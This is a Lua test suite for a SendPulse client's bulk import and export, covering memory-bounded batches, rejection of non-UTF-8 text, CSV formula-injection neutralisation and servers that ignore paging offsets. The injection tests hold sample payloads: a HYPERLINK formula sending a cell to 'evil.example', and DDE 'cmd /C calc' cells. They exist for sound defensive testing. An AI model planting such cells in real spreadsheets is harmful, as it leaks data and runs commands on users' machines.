-- Issue 21, "inputs inside the limits that add up", for the bulk jobs,
-- against the sandbox and the hostile server (real processes, real
-- sockets): batches bounded by bytes (a child process's peak RSS), text
-- that is not UTF-8, cells a spreadsheet would run, and a server that
-- ignores `offset` (the export and each/all).
local sendpulse = require "sendpulse"
local safe = require "sendpulse.safe"
local csv = require "sendpulse.bulk.csv"
local sandbox = require "support.sandbox_process"
local hostile = require "support.hostile_server"
local gen = require "support.contacts_csv"
local sys = require "support.sys"

local LUA = os.getenv("LUA") or "lua5.4"

local function tmp()
  local p = os.tmpname()
  os.remove(p)
  return p
end

-- Every record of a CSV file (fields arrays).
local function records(path)
  local r = assert(csv.reader(path))
  local out = {}
  while true do
    local fields = r:next()
    if fields == nil then break end
    assert.is_truthy(fields, "valid CSV")
    out[#out + 1] = fields
  end
  r:close()
  return out
end

-- Every contact of a list: { [email] = variables }.
local function contacts_of(client, id)
  local out = {}
  for c in client.email:each("get_emails_from_mailing_list", { id = id }) do out[c.email] = c.variables end
  return out
end

describe("bulk inputs #bulk", function()
  local sb, client
  lazy_setup(function() sb = sandbox.start { rate = 0 } end)
  lazy_teardown(function() if sb then sb:stop() end end)
  before_each(function()
    sb:reset()
    client = sendpulse.new { client_id = "sandbox-id", client_secret = "sandbox-secret", base_url = sb.url,
                             rate_limit = false }
  end)
  after_each(function() client:close() end)

  describe("batches bounded by bytes", function()
    -- One import in a child process: its summary's batches and its peak RSS.
    local function import_peak(path, batch_bytes)
      local cmd = table.concat({ "LUA_PATH='lua/?.lua;lua/?/init.lua;;'",
        "LUA_CPATH=" .. sys.shell_quote(package.cpath), LUA, "spec/support/import_peak.lua",
        sb.url, sys.shell_quote(path), batch_bytes and tostring(batch_bytes) or "" }, " ")
      local ok, out = sys.run(cmd)
      assert(ok, out)
      local added, batches, peak = out:match("added=(%d+) batches=(%d+) peak_kb=(%d+)")
      assert(added, out)
      return { added = tonumber(added), batches = tonumber(batches), peak_kb = tonumber(peak) }
    end

    it("cuts wide rows into batches of about batch_bytes, so memory follows the bound, not the file", function()
      -- 40 rows of 300 kB each (12 MB, every row far under the 1 MiB
      -- record limit): before, all 40 went into one batch, one 12 MB body
      local wide, narrow = tmp() .. ".csv", tmp() .. ".csv"
      local f = assert(io.open(wide, "wb"))
      f:write("email,blob\n")
      for i = 1, 40 do f:write(("w%d@example.com,%s\n"):format(i, string.rep(string.char(97 + i % 26), 300000))) end
      f:close()
      gen.write(narrow, { rows = 2000, seed = 3 })

      local base = import_peak(narrow)
      local default = import_peak(wide)
      assert.equal(2000, base.added)
      assert.equal(40, default.added)
      -- a batch holds at most batch_bytes plus one row (2 MiB + 300 kB):
      -- 12 MB need at least 5 batches
      assert.is_true(default.batches >= 5, "batches: " .. default.batches)
      -- Peak RSS above the narrow file's (same process, same sandbox): a
      -- batch costs its cells, its contacts, the JSON body and libcurl's
      -- copy (about 4 x 2.4 MB), and as much again of garbage the
      -- collector has not reclaimed yet: 20 MB on LuaJIT, 12 MB on Lua
      -- 5.4 when measured; 30 MB is the slack. One 12 MB batch (before the
      -- bound) cost 37 MB (5.4) to 44 MB (LuaJIT).
      local growth = (default.peak_kb - base.peak_kb) / 1024
      assert.is_true(growth < 30, ("peak RSS grew by %.1f MB for wide rows"):format(growth))
      -- a smaller bound, smaller batches: 512 KiB + 300 kB, at least 15
      local small = import_peak(wide, 512 * 1024)
      assert.equal(40, small.added)
      assert.is_true(small.batches >= 15, "batches: " .. small.batches)
      os.remove(wide)
      os.remove(narrow)
    end)

    it("refuses a batch_bytes outside its bounds, naming them", function()
      local c = safe.new { client_id = "sandbox-id", client_secret = "sandbox-secret", base_url = sb.url }
      for _, bad in ipairs { 0, 1023, 64 * 1024 * 1024 + 1, 2.5, "1000" } do
        local _, err = c.email:import { id = 1, rows = function() end, batch_bytes = bad }
        assert.equal("argument", err.kind)
        assert.matches("argument 'batch_bytes' must be an integer from 1024 to 67108864 %(bytes%)", err.message)
      end
      c:close()
    end)
  end)

  describe("text that is not UTF-8", function()
    it("rejects the row with its line, column and byte, and adds the others", function()
      local input, rejects = tmp() .. ".csv", tmp()
      sys.write_file(input, table.concat({
        "email,name,city",
        "ann@example.com,Ann,Kyiv",
        "bob@example.com,Bj\246rn,Oslo",                 -- Latin-1 ö
        "zoe@example.com,Zo\195\171 \240\159\152\128,",    -- UTF-8: kept
        "cy\233@example.com,Cy,Paris",                    -- in the email
        "dan@example.com,Dan,\237\160\128",                -- a surrogate
        "eve@example.com,\192\175,Rome",                  -- an overlong '/'
        "fay@example.com,Fay,Ri\226\130",                 -- cut short
        "",
      }, "\n"))
      local id = client.email:create_mailing_list { bookName = "UTF-8" }.id
      local summary = client.email:import { id = id, rows = input, rejects = rejects }
      assert.equal(2, summary.added)
      assert.equal(5, summary.rejected)
      local got = contacts_of(client, id)
      assert.same({ name = "Ann", city = "Kyiv" }, got["ann@example.com"])
      assert.same({ name = "Zo\195\171 \240\159\152\128" }, got["zoe@example.com"])
      local rows = records(rejects)
      assert.same({ "line", "reason", "email", "name", "city" }, rows[1])
      local reasons = {}
      for i = 2, #rows do reasons[rows[i][1]] = rows[i][2] end
      assert.equal("column 'name' is not UTF-8 text (byte 3): convert the file to UTF-8", reasons["3"])
      assert.equal("column 'email' is not UTF-8 text (byte 3): convert the file to UTF-8", reasons["5"])
      assert.equal("column 'city' is not UTF-8 text (byte 1): convert the file to UTF-8", reasons["6"])
      assert.equal("column 'name' is not UTF-8 text (byte 1): convert the file to UTF-8", reasons["7"])
      assert.equal("column 'city' is not UTF-8 text (byte 3): convert the file to UTF-8", reasons["8"])
      -- the rejected row's own bytes are kept in the rejects file, to be fixed
      assert.equal("Bj\246rn", rows[2][4])
      os.remove(input)
      os.remove(rejects)
    end)

    it("rejects an iterator's row too, and a call with such text sends nothing", function()
      local id = client.email:create_mailing_list { bookName = "Iter UTF-8" }.id
      local rows = { { email = "a@example.com", variables = { name = "caf\233" } },
                     { email = "b@example.com", variables = { name = "caf\195\169" } } }
      local i = 0
      local summary = client.email:import { id = id, rows = function() i = i + 1 return rows[i] end }
      assert.equal(1, summary.added)
      assert.same({ line = 1, reason = "variable 'name' is not UTF-8 text (byte 4)", fields = { "a@example.com" } },
        summary.rejects_list[1])
      -- the client itself: an argument error naming the place, before any byte is sent
      local before = #sb:stats().requests
      local c = safe.new { client_id = "sandbox-id", client_secret = "sandbox-secret", base_url = sb.url }
      local _, err = c.email:add_emails_to_mailing_list { id = id, emails = { rows[1] } }
      assert.equal("argument", err.kind)
      assert.matches("json: a string is not UTF%-8 %(byte 4 is 0xE9%) at value.emails%[1%].variables.name", err.message)
      assert.equal(before, #sb:stats().requests)
      c:close()
    end)

    it("keeps a journal of UTF-8 text, whatever character its position's bytes cut", function()
      -- the journal compares the 64 bytes before its position on resume;
      -- they begin inside a two-byte character here (row 1 ends at byte
      -- 106, so they start 17 bytes into its Cyrillic name)
      local input, journal = tmp() .. ".csv", tmp()
      local rows = { "email,name" }
      for i = 1, 6 do rows[#rows + 1] = ("%s@example.com,%s"):format(string.char(96 + i), ("\209\145"):rep(40)) end
      sys.write_file(input, table.concat(rows, "\n") .. "\n")
      local id = client.email:create_mailing_list { bookName = "Journal UTF-8" }.id
      local summary = client.email:import { id = id, rows = input, batch = 1, journal = journal }
      assert.equal(6, summary.added)
      local again = client.email:import { id = id, rows = input, batch = 1, journal = journal }
      assert.is_true(again.resumed and again.complete)
      assert.equal(6, again.skipped)
      os.remove(input)
      os.remove(journal)
    end)

    it("refuses a header that is not UTF-8", function()
      local input = tmp() .. ".csv"
      sys.write_file(input, "email,n\226me\nann@example.com,Ann\n")
      local c = safe.new { client_id = "sandbox-id", client_secret = "sandbox-secret", base_url = sb.url }
      local _, err = c.email:import { id = 1, rows = input }
      assert.equal("argument", err.kind)
      assert.matches("column 2 of the header is not UTF%-8 text %(byte 2%)", err.message)
      c:close()
      os.remove(input)
    end)
  end)

  describe("cells a spreadsheet would run", function()
    local ARMED = {
      formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")',
      cmd = "+cmd|' /C calc'!A0",
      at = "@SUM(1+1)*cmd|' /C calc'!A0",
      minus = "-2+3+cmd|' /C calc'!A0",
      tab = "\t=1+1",
      cr = "\r=1+1",
      quoted = "'=already quoted",
      quotes = "''+two",
      -- a phone number too: the quote keeps a spreadsheet from making it a
      -- number (dropping the + and leading zeros), the import removes it
      mobile = "+380501234567",
    }
    local PLAIN = { plain = "O'Brien", inner = "a=b", quote = "'plain", space = " =x" }

    local function fill(id)
      local variables = {}
      for k, v in pairs(ARMED) do variables[k] = v end
      for k, v in pairs(PLAIN) do variables[k] = v end
      client.email:add_emails_to_mailing_list { id = id, emails = {
        { email = "ann@example.com", variables = variables },
        { email = "+bob@example.com", variables = { plain = "-" } },
      } }
      return variables
    end

    it("are written with a ' in front; every other cell as it is; the header too", function()
      local id = client.email:create_mailing_list { bookName = "Formulas" }.id
      local variables = fill(id)
      client.email:add_emails_to_mailing_list { id = id, emails = {
        { email = "cy@example.com", variables = { ["=NAME()"] = "n" } } } }
      local out = tmp()
      client.email:export { id = id, out = out }
      local rows = records(out)
      local header = rows[1]
      local at = {}
      for i, name in ipairs(header) do at[name] = i end
      assert.is_not_nil(at["'=NAME()"], "the header cell is neutralised")
      local ann
      for i = 2, #rows do if rows[i][1] == "ann@example.com" then ann = rows[i] end end
      for k, v in pairs(ARMED) do assert.equal("'" .. v, ann[at[k]], k) end
      for k, v in pairs(PLAIN) do assert.equal(v, ann[at[k]], k) end
      assert.equal(variables.plain, ann[at.plain])
      -- the email column is a cell like the others
      local bob
      for i = 2, #rows do if rows[i][1]:find("bob") then bob = rows[i] end end
      assert.equal("'+bob@example.com", bob[1])
      assert.equal("'-", bob[at.plain])
      os.remove(out)
    end)

    it("round-trip exactly: an export imported into a new list gives back the same values", function()
      local id = client.email:create_mailing_list { bookName = "Formulas source" }.id
      local variables = fill(id)
      local first, second = tmp(), tmp()
      client.email:export { id = id, out = first }
      local copy = client.email:create_mailing_list { bookName = "Formulas copy" }.id
      assert.equal(2, client.email:import { id = copy, rows = first }.added)
      local got = contacts_of(client, copy)
      assert.same(variables, got["ann@example.com"])
      assert.same({ plain = "-" }, got["+bob@example.com"])
      client.email:export { id = copy, out = second }
      assert.equal(sys.read_file(first), sys.read_file(second))
      local cells = require "sendpulse.bulk.cells"
      for _, v in pairs(ARMED) do assert.equal(v, cells.restore(cells.neutralise(v))) end
      for _, v in pairs(PLAIN) do assert.equal(v, cells.restore(cells.neutralise(v))) end
      os.remove(first)
      os.remove(second)
    end)

    it("raw_cells writes them as they are, and an import with raw_cells keeps a leading '", function()
      local id = client.email:create_mailing_list { bookName = "Raw" }.id
      fill(id)
      local out = tmp()
      client.email:export { id = id, out = out, raw_cells = true }
      local rows = records(out)
      local at = {}
      for i, name in ipairs(rows[1]) do at[name] = i end
      local ann
      for i = 2, #rows do if rows[i][1] == "ann@example.com" then ann = rows[i] end end
      for k, v in pairs(ARMED) do assert.equal(v, ann[at[k]], k) end
      local copy = client.email:create_mailing_list { bookName = "Raw copy" }.id
      client.email:import { id = copy, rows = out, raw_cells = true }
      assert.equal(ARMED.quoted, contacts_of(client, copy)["ann@example.com"].quoted)
      os.remove(out)
    end)

    it("the rejects file is neutralised too, and restored when it is imported again", function()
      local input, rejects = tmp() .. ".csv", tmp()
      sys.write_file(input, "email,note\nnot-an-email,\"=HYPERLINK(\"\"http://x\"\")\"\n")
      local id = client.email:create_mailing_list { bookName = "Rejects" }.id
      assert.equal(1, client.email:import { id = id, rows = input, rejects = rejects }.rejected)
      local rows = records(rejects)
      assert.same({ "2", "not an email address", "not-an-email", "'=HYPERLINK(\"http://x\")" }, rows[2])
      os.remove(input)
      os.remove(rejects)
    end)
  end)

  describe("a server that ignores offset", function()
    local hs
    lazy_setup(function() hs = hostile.start(LUA) end)
    lazy_teardown(function() if hs then hs:stop() end end)

    local function client_of(mode, size)
      return safe.new { client_id = "id", client_secret = "secret", base_url = hs:url(mode, size),
                        rate_limit = false, retries = 0 }
    end

    -- Stops a walk that would not end (the code before the fix): the test
    -- then fails instead of hanging. 20 pages of a 150-contact list.
    local GUARD = 2000
    local function guard(p)
      if p.contacts > GUARD then error("the export did not stop after " .. p.contacts .. " contacts", 0) end
    end

    it("stops the export at the repeated page with a decode error, and writes no file", function()
      local c = client_of("ignore_offset", 150)
      local out = tmp()
      local ok, summary, err = pcall(c.email.export, c.email, { id = 7, out = out, progress = guard })
      assert.is_true(ok, tostring(summary))
      assert.is_nil(summary)
      assert.equal("decode", err.kind)
      assert.equal("paging_loop", err.name)
      assert.matches("the page at offset 100 holds the same 100 contacts as the page before: the server "
        .. "ignores 'offset' %(stopped after 100 contacts%)", err.message)
      assert.is_false(sys.exists(out))
      assert.is_false(sys.exists(out .. "." .. require("sendpulse.core").uid() .. ".tmp"))
      c:close()
    end)

    it("stops the export when the pages pass the list's total, even when no page repeats", function()
      local c = client_of("wander_offset", 150)
      local lines = 0
      local ok, summary, err = pcall(c.email.export, c.email,
        { id = 7, out = function() lines = lines + 1 end, progress = guard })
      assert.is_true(ok, tostring(summary))
      assert.is_nil(summary)
      assert.equal("paging_loop", err.name)
      assert.matches("the pages up to offset 100 hold 200 contacts, more than the 150 the list has", err.message)
      assert.equal(1 + 100, lines)   -- the header and the first page: nothing past the total
      c:close()
    end)

    it("stops each() and all() at the repeated page too", function()
      local c = client_of("ignore_offset", 150)
      local n, failure = 0, nil
      for item, err in c.email:each("get_emails_from_mailing_list", { id = 7 }) do
        if not item then failure = err break end
        n = n + 1
        if n > GUARD then error("each() did not stop") end
      end
      assert.equal(100, n)
      assert.equal("paging_loop", failure.name)
      assert.matches("get_emails_from_mailing_list: the page at offset=100 holds the same 100 items as the page "
        .. "before: the server ignores 'offset'", failure.message)
      local got, err = c.email:all("get_emails_from_mailing_list", { id = 7 }, { max_items = GUARD })
      assert.is_nil(got)
      assert.equal("paging_loop", err.name)
      assert.equal(100, #err.items)
      c:close()
    end)

    it("a list that grows during the export passes its first total and is exported whole", function()
      local id = client.email:create_mailing_list { bookName = "Growing" }.id
      local function add(from, to)
        local emails = {}
        for i = from, to do emails[#emails + 1] = { email = ("g%03d@example.com"):format(i) } end
        client.email:add_emails_to_mailing_list { id = id, emails = emails }
      end
      add(1, 150)
      local grown = false
      local other = sendpulse.new { client_id = "sandbox-id", client_secret = "sandbox-secret", base_url = sb.url,
                                    rate_limit = false }
      local lines = 0
      local summary = other.email:export { id = id, out = function() lines = lines + 1 end, progress = function()
        if not grown then grown = true add(151, 250) end   -- after the first page: 100 more
      end }
      assert.equal(250, summary.contacts)
      assert.equal(250, summary.total)
      assert.equal(251, lines)
      other:close()
    end)

    it("a list that is a whole number of pages still ends (the short last page is empty)", function()
      local id = client.email:create_mailing_list { bookName = "Pages" }.id
      local emails = {}
      for i = 1, 200 do emails[i] = { email = ("p%d@example.com"):format(i) } end
      client.email:add_emails_to_mailing_list { id = id, emails = emails }
      assert.equal(200, #client.email:all("get_emails_from_mailing_list", { id = id }))
      local lines = 0
      assert.equal(200, client.email:export { id = id, out = function() lines = lines + 1 end }.contacts)
      assert.equal(201, lines)
    end)
  end)
end)
